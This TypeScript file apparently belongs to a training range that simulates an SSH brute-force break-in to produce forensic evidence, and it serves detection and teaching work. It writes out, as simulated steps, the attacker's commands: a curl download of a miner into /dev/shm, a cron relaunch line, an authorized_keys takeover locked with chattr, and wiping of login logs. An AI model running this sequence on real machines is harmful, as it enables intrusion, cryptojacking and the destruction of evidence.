import type { Gang } from '../cast.ts'
import type { Process } from '../evidence/audit-calls.ts'
import type { Ledger } from '../ledger.ts'
import { cronRuns } from '../login/cron-job.ts'
import { Shell } from '../login/shell.ts'
import { SshVisit } from '../login/ssh-visit.ts'
import { type Machine, ROOT } from '../machine.ts'
import { fetchOverHttp } from '../network/http.ts'
import { XMRIG_AGENT } from '../network/cryptonote.ts'
import { GUESSING_CLIENT } from '../network/ssh-bytes.ts'
import type { Random } from '../random.ts'
import { type Act, MINUTE_MS } from '../schedule.ts'
import { truthTime } from '../truth.ts'
import { mine, type MiningPlan } from './mining.ts'

const MINER_PATH = '/dev/shm/.x'
const CRON_PATH = '/etc/cron.d/0kz'
const KEYS_PATH = '/root/.ssh/authorized_keys'
/** The line asks every half hour whether the miner still runs. */
const CRON_EVERY_MS = 30 * MINUTE_MS
const DIFFICULTY = { first: 20_000, settled: 75_000 }
const LOG_PATHS = ['/var/log/wtmp', '/var/log/lastlog'] as const
const AUTH_LOG_PATH = '/var/log/auth.log'
/** Stands where a miner would: it runs nothing and mines nothing. */
const INERT_TEXT = '# Davylamp range: in place of a miner. Inert text.\n'.repeat(24)

/** The right password at last, and what a script then types within half a minute. */
export function* breakIn(
  machine: Machine,
  ledger: Ledger,
  gang: Gang,
  from: { ip: string; rttMs: number },
  random: Random,
): Act {
  const visit = new SshVisit(machine, { ...from, software: GUESSING_CLIENT }, random)
  yield* visit.connect()
  const admittedMs = yield* visit.passPassword(ROOT)
  ledger.wayIn = {
    kind: 'ssh-password',
    time: truthTime(admittedMs),
    srcIp: from.ip,
    srcPort: visit.port,
    user: ROOT.name,
    tries: ledger.triesFrom(from.ip),
  }
  const shell = yield* Shell.open(visit, ROOT)
  yield* pause(machine, random)
  yield* shell.run(['nproc'], 12)
  yield* dropMiner(shell, ledger, gang, random)
  yield* startMiner(shell, ledger, gang, random)
  yield* digIn(shell, ledger, gang, random)
  yield* coverTracks(shell, ledger)
  yield* pause(machine, random)
  yield* shell.leave()
}

function* dropMiner(shell: Shell, ledger: Ledger, gang: Gang, random: Random): Act {
  const { machine } = shell
  const url = `http://${gang.downloadIp}/x`
  const curl = yield* shell.run(['curl', '-fsSL', '-o', MINER_PATH, url], 40)
  machine.calls.connected(curl, gang.downloadIp, 80, true)
  machine.schedule.start(
    fetchOverHttp(machine, { host: gang.downloadIp, ip: gang.downloadIp, path: '/x' }, INERT_TEXT, random),
  )
  yield machine.nowMs + random.between(300, 500)
  machine.calls.opened(curl, MINER_PATH, 'shm', { isNew: true })
  ledger.touched(MINER_PATH, 'miner', 'created', machine.nowMs)
  yield* pause(machine, random)
  const chmod = yield* shell.run(['chmod', '+x', MINER_PATH], 20)
  machine.calls.changedMode(chmod, MINER_PATH, 0o755)
  yield* pause(machine, random)
}

function* startMiner(shell: Shell, ledger: Ledger, gang: Gang, random: Random): Act {
  const { machine } = shell
  const args = [MINER_PATH, ...minerArguments(gang)] as const
  yield* shell.type(args.join(' ').length)
  const started = shell.start(args)
  ledger.minerStartedMs = machine.nowMs
  // It goes to the background: a child of init from here on.
  const miner: Process = { ...started, pid: machine.nextPid(), ppid: 1, cwd: '/', tty: null }
  const plan: MiningPlan = {
    pool: { ...gang.pool, isTls: false },
    login: gang.wallet,
    pass: 'x',
    agent: XMRIG_AGENT,
    hashrate: () => gang.hashrate,
    difficulty: DIFFICULTY,
  }
  machine.schedule.start(mine(machine, plan, ledger.shares, miner, random.fork('mining')))
  yield* pause(machine, random)
}

/** A cron line to come back, a key to stay in and everybody else's to go. */
function* digIn(shell: Shell, ledger: Ledger, gang: Gang, random: Random): Act {
  const { machine } = shell
  const bash = yield* shell.runBuiltin(96)
  machine.calls.opened(bash, CRON_PATH, 'cron', { isNew: true })
  machine.schedule.start(cronRuns(machine, cronLine(gang), random.fork('cron'), CRON_EVERY_MS))
  ledger.touched(CRON_PATH, 'cron', 'created', machine.nowMs)
  yield* pause(machine, random)
  yield* shell.runBuiltin(180)
  machine.calls.opened(bash, KEYS_PATH, 'ssh_keys', { mode: '0100600' })
  ledger.touched(KEYS_PATH, 'authorized-keys', 'overwritten', machine.nowMs)
  yield* pause(machine, random)
  yield* shell.run(['chattr', '+ia', KEYS_PATH], 20)
  yield* pause(machine, random)
}

function* coverTracks(shell: Shell, ledger: Ledger): Act {
  const { machine } = shell
  for (const path of LOG_PATHS) {
    const bash = yield* shell.runBuiltin(24)
    machine.calls.opened(bash, path, 'logs')
    ledger.touched(path, 'log-wipe', 'overwritten', machine.nowMs)
  }
  // The host keeps auth.log append-only (chattr +a): it stays.
  const rm = yield* shell.run(['rm', '-f', AUTH_LOG_PATH], 80)
  machine.calls.failedToRemove(rm, AUTH_LOG_PATH, 'logs')
  ledger.touched(AUTH_LOG_PATH, 'log-wipe', 'remove-failed', machine.nowMs)
}

function minerArguments({ pool, wallet }: Gang): string[] {
  return ['-o', `${pool.name}:${pool.port}`, '-u', wallet, '-p', 'x', '-k', '--donate-level=1', '-B']
}

function cronLine(gang: Gang): string {
  return `pgrep -f ${MINER_PATH} >/dev/null || ${[MINER_PATH, ...minerArguments(gang)].join(' ')}`
}

function* pause(machine: Machine, random: Random): Act {
  yield machine.nowMs + random.between(400, 1900)
}
